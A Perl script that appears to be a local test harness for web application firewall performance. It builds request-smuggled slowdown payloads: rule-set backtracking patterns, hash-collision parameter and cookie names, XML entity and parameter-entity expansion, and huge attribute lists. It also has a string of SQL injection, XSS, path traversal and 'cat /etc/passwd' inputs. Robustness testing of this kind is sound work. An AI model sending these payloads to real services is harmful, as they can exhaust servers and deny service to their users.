# Requests that make inspection slow, and such as everybody sends.
#
# usage: perl waf_inputs.pl                      the names, each behind its kind
#        perl waf_inputs.pl NAME PORT SECONDS    sends one: "octets status", the status 000 when the
#                                                answer is not there in so many seconds

use v5.36;
use IO::Socket::INET;

my $form      = 'application/x-www-form-urlencoded';
my $json      = 'application/json';
my $xml       = 'text/xml';
my $multipart = 'multipart/form-data; boundary=XyZ';

# Found by a search over the patterns of both rule sets.
my %patterns = (
    angles          => ['', '<'],
    templates       => ['', '${'],
    parentheses     => ['', '('],
    if              => ['', 'if '],
    pipes           => ['', '||/'],
    union_tabs      => ['union', "\t"],
    equals_blanks   => ['=', ' '],
    like_blanks     => ['"like', ' '],
    heredoc_lines   => ['<<>', "\n"],
    tag_lines       => ['<ep', "\n"],
    escape_lines    => ['"x5c', "\n"],
    underline_lines => ['<_a-', "\n"],
);

sub request ($line, $fields, $body = undef) {
    my @lines = ("$line HTTP/1.1", 'Host: www.example.com', 'User-Agent: Mozilla/5.0 (X11; Linux x86_64)',
        'Accept: */*', 'Connection: close', @$fields);
    push @lines, 'Content-Length: ' . length $body if defined $body;
    return join("\r\n", @lines, '', '') . ($body // '');
}

sub post ($type, $body) { return request('POST /', ["Content-Type: $type"], $body) }

# encode TEXT, SIZE: as much of the text as its encoded form has room for.
sub encode ($text, $size) {
    $text =~ s/([^!-~]|[%+&;#])/sprintf '%%%02X', ord $1/ge;
    $text =~ s/%20/+/g;
    return substr($text, 0, $size) =~ s/%.?\z//r;
}

sub pattern ($name, $size = 8000) {
    my ($start, $unit) = $patterns{$name}->@*;
    return substr $start . $unit x $size, 0, $size;
}

my %carriers = (
    argument => sub ($text) { request('GET /?a=' . encode($text, 7800), []) },
    cookie   => sub ($text) { request('GET /', ['Cookie: a=' . encode($text, 7800)]) },
    Referer  => sub ($text) { request('GET /', ['Referer: http://www.example.com/?a=' . encode($text, 7800)]) },
    JSON     => sub ($text) {
        my %escape = ("\n" => '\n', "\t" => '\t', '"' => '\"');
        post($json, '{"a":"' . (substr($text =~ s/([\n\t"])/$escape{$1}/gr, 0, 7800) =~ s/\\\z//r) . '"}');
    },
);

# Permutations of the same letters: in the library's hash they are all in one place.
sub same_sums ($count) {
    my @names = ('');
    for my $letter ('a' .. 'i') {
        @names = map { my $name = $_; map { substr($name, 0, $_) . $letter . substr($name, $_) } 0 .. length $name } @names;
        last if @names >= $count;
    }
    return @names[0 .. $count - 1];
}

sub part ($head, $content) { return "--XyZ\r\nContent-Disposition: form-data; $head\r\n\r\n$content\r\n" }

sub nested_namespaces () {
    my $body = '<r>';
    for my $level (0 .. 8) {
        $body .= '<a' . join('', map { " xmlns:p${level}x$_='b'" } 0 .. 899) . '>';
    }
    return $body . '<p0x0:a/>' x 80_000 . '</a>' x 9 . '</r>';
}

sub given_attributes () {
    return '<!DOCTYPE a [<!ATTLIST a ' . join(' ', map { "b$_ CDATA 'c'" } 1 .. 900) . '>]><a>' . '<a/>' x 200_000 . '</a>';
}

sub of_type ($declarations) { return "<!DOCTYPE r [$declarations]><r/>" }

sub parameter_entities ($names, $times, $more) {
    my $list = join '|', map { "N$_" } 1 .. $names;
    return of_type(qq(<!ENTITY % a "<!ATTLIST r a ($list) #IMPLIED>"><!ENTITY % b ") . '&#37;a;' x $times
            . '"><!ENTITY % c "' . '&#37;b;' x $more . '">%c;');
}

# What an entity stands for, in a pattern's subject: its references are a few octets each.
sub entity ($text, $times) { return qq(<!DOCTYPE r [<!ENTITY a "$text">]><r>) . '&a;' x $times . '</r>' }

my $attacks = q(1' or 1=1 union select <script>alert(1)</script> ../../etc/passwd; cat /etc/passwd);

my %slow = (
    (map { my $n = $_; ("angles_$n" => sub { request('GET /?a=' . '<' x $n, []) }) } 2000, 4000, 8000),
    JSON_names_6k => sub { post($json, '{"' . 'k' x 4000 . '":[' . join(',', (1) x 900) . ']}') },
    JSON_names_127k => sub { post($json, '{"' . 'k' x 4000 . '":[' . join(',', (1) x 61_500) . ']}') },
    parts => sub { post($multipart, join '', map({ part(qq(name="$_"), '') } same_sums(16_000)), "--XyZ--\r\n") },
    part_head => sub { post($multipart, part(qq(name="a"\r\nX: y) . "\r\n z" x 200_000, '') . "--XyZ--\r\n") },
    arguments => sub { post($form, join '&', map { "$_=" } same_sums(26_000)) },
    cookies => sub { request('GET /', ['Cookie: ' . join '; ', map { "$_=" } same_sums(5400)]) },
    XML_attributes => sub { post($xml, '<a' . join('', map { " a$_='b'" } 1 .. 80_000) . '/>') },
    XML_given_attributes => sub { post($xml, given_attributes()) },
    XML_parameter_entities => sub { post($xml, parameter_entities(500, 200, 100)) },
    XML_enumeration => sub { post($xml, of_type('<!ATTLIST r a (' . join('|', map { "a$_" } 1 .. 30_000) . ') #IMPLIED>')) },
    XML_IDs => sub { post($xml, of_type('<!ATTLIST r ' . join(' ', map { "a$_ ID #IMPLIED" } 1 .. 50_000) . '>')) },
    XML_default_values => sub { post($xml, of_type(join '', map { "<!ATTLIST r$_ a CDATA 'b'>" } 1 .. 38_000)) },
    XML_entity_8k => sub { post($xml, entity('{' x 7400, 125)) },
    XML_entity_120k => sub { post($xml, entity('{' x 120_000, 8)) },
    XML_matches => sub { post($xml, '<r>' . q(<b c='x or 1=1'/>) x 55_000 . '</r>') },
    JSON_matches_100k => sub { post($json, '[' . join(',', map { qq("$attacks $_") } 1 .. 1000) . ']') },
    JSON_matches_900k => sub { post($json, '[' . join(',', map { qq("$attacks $_") } 1 .. 9000) . ']') },
    XML_namespaces => sub { post($xml, nested_namespaces()) },
);
for my $name (keys %patterns) {
    for my $carrier (keys %carriers) {
        $slow{"${name}_$carrier"} = sub { $carriers{$carrier}->(pattern($name)) };
    }
}
my %repeated = (blanks => '+', NULs => '%00', hashes => '#', comments => '--');
for my $name (keys %repeated) {
    for my $size (100, 900) {
        my $count = $size * 1000 / length $repeated{$name};
        $slow{"form_${name}_${size}k"} = sub { post($form, 'a=' . $repeated{$name} x $count) };
    }
}

# What nobody should be refused for.
sub prose ($size) {
    my @words = qw(a gate is the house of those who come and go through it every day with goods and letters);
    return substr join(' ', map { @words[map { ($_ * 7 + $_ % 5) % @words } 1 .. 50] } 0 .. $size / 150), 0, $size;
}

my %ordinary = (
    page   => sub { request('GET /page?q=gate+house&page=2', ['Cookie: session=3f1c9a; theme=dark']) },
    form   => sub { post($form, join '&', map { "field$_=" . (prose(4480) =~ tr/ /+/r) } 1 .. 200) },
    JSON   => sub { post($json, '{"entries":[' . join(',', map { '{"id":' . $_ . ',"text":"' . prose(2200) . '"}' } 1 .. 400) . ']}') },
    upload => sub {
        post($multipart, part(qq(name="file"; filename="letters.bin"\r\nContent-Type: application/octet-stream),
            pack('N*', map { $_ * 2654435761 % 2**32 } 1 .. 2**18) x 100) . "--XyZ--\r\n");
    },
);

my %attack = (attack => sub { request('GET /?q=%3Cscript%3Ealert(1)%3C/script%3E', []) });

# The octets that are read until the connection ends: by then the request has been logged, too.
sub answer ($octets, $port, $seconds) {
    local $SIG{PIPE} = 'IGNORE';
    local $SIG{ALRM} = sub { die "late\n" };
    my $answer = '';
    eval {
        alarm $seconds;
        my $socket = IO::Socket::INET->new(PeerAddr => "127.0.0.1:$port") or die "connect: $!\n";
        print $socket $octets;
        $socket->flush;
        1 while $socket->sysread($answer, 65536, length $answer);
        alarm 0;
    };
    die $@ if $@ && $@ ne "late\n";
    return $@ ? '' : $answer;
}

my %all = (%slow, %ordinary, %attack);
my ($name, $port, $seconds) = @ARGV;
if (!defined $name) {
    say "ordinary $_" for sort keys %ordinary;
    say "attack $_" for keys %attack;
    say "slow $_" for sort keys %slow;
    exit;
}
my $octets = ($all{$name} // die "no input $name\n")->();
$octets =~ s/\r\n\r\n/\r\nX-Input: $name\r\n\r\n/;
my ($status) = answer($octets, $port, $seconds) =~ m{\AHTTP/1\.1 (\d+)};
printf "%d %s\n", length $octets, $status // '000';
